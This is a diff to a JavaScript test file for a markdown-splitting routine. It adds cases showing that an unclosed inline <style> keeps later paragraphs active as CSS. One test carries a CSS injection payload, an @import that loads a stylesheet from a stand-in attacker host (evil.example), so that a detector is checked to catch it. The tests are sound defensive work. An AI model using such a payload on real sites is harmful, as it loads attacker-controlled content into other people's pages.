@@ -93,9 +93,18 @@ describe('markdown read in parts', () => {
     ['marked raw text after an inline <kbd>', 'a <kbd>x\n\nb\n', 1],
     ['an html block of the first kinds, until it ends', '<!--\n\nb\n-->\n\nc\n', 2],
     ['a <pre> block (marked passes what follows an inline one raw)', '<pre>\n\nb\n</pre>\n\nc\n', 1],
+    ['an inline <style> (the browser reads later paragraphs as its css)', 'hi <style>\n\nx{}\n\nc\n', 1],
   ])('no cut inside what %s may hold open', (_name, markdown, count) => {
     const parts = markdownParts(markdown);
     expect(parts.join('')).toBe(markdown);
     expect(parts).toHaveLength(count);
+  });
+
+  test('an @import in a paragraph after an inline <style> is found (the page runs it as css)', () => {
+    // rendered: `<p>hi <style></p>\n<p>x{}@import url(…);</p>`: the style element holds both paragraphs, the first
+    // rule is dropped and the import loads; read part by part, the second paragraph alone is inert text
+    const markdown = 'hi <style>\n\nx{}@import url(https://evil.example/x.css);\n';
+    expect(markdownParts(markdown)).toEqual([markdown]);
+    expect(markdownRuns(markdown, (part) => part.includes('<style'))).toEqual([markdown]);
   });
 });
